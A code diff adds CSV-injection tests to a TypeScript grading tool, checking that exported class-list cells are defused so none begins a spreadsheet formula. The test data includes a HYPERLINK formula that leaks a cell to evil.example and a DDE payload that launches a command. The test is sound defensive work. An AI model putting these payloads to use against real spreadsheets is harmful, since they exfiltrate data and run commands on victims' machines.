@@ -3,7 +3,7 @@ import { join } from 'node:path'
 import { parse } from 'valibot'
 import { describe, expect, it } from 'vitest'
 import { gradingConfigSchema } from '@/lib/config'
-import { summarize, toCsv } from './class-list'
+import { defuseFormulas, summarize, toCsv } from './class-list'
 import { calculate } from './grading'
 
 const standard = parse(gradingConfigSchema, 
@@ -74,5 +74,40 @@ describe('toCsv', () => {
     expect(rows[2]).toBe("2;'=SUMME(A1);40;100,0%;1;")
     expect(rows[3]).toBe("3;;'-5;;;Punkte können nicht negativ sein.")
     expect(rows.slice(4)).toEqual(['', 'Durchschnitt;1,50', 'Anteil 5 und 6;0,0 %', ''])
+  })
+})
+
+describe('CSV injection', () => {
+  const attacks = [
+    'Max,=1+1,; 20',
+    '=HYPERLINK("https://evil.example/?"&A1;"Klick");5',
+    "=cmd|' /C calc'!A0;5",
+    'Eva,+1+1;5',
+    'Ben, -2+3;5',
+    'Ida\t@SUMME(A1);5',
+    'Tom,\t=1+1;5',
+    'Lea; =1+1;5',
+  ]
+  const dangerous = /^[=+\-@\t\r]/
+
+  it.each(attacks)('no cell of %j starts a formula, whatever the separator', (line) => {
+    const s = summarize(standard, '40', line)
+    if (s === null) throw new Error('no summary')
+    const rows = toCsv(s).slice(1).split(/\r\n|\r|\n/)
+    for (const separator of [';', ',', '\t']) {
+      for (const row of rows) {
+        for (const cell of row.split(separator)) {
+          // a program that splits naively may also keep the quotes and drop leading spaces
+          expect(cell.replace(/^[" ]+/, ''), `${separator === '\t' ? 'tab' : separator} in ${row}`).not.toMatch(dangerous)
+        }
+      }
+    }
+  })
+
+  it('keeps ordinary text as it is', () => {
+    expect(defuseFormulas('Anna Lange')).toBe('Anna Lange')
+    expect(defuseFormulas('31,5')).toBe('31,5')
+    expect(defuseFormulas('Max,=1+1,')).toBe("Max,'=1+1,")
+    expect(defuseFormulas('a, @b')).toBe("a, '@b")
   })
 })
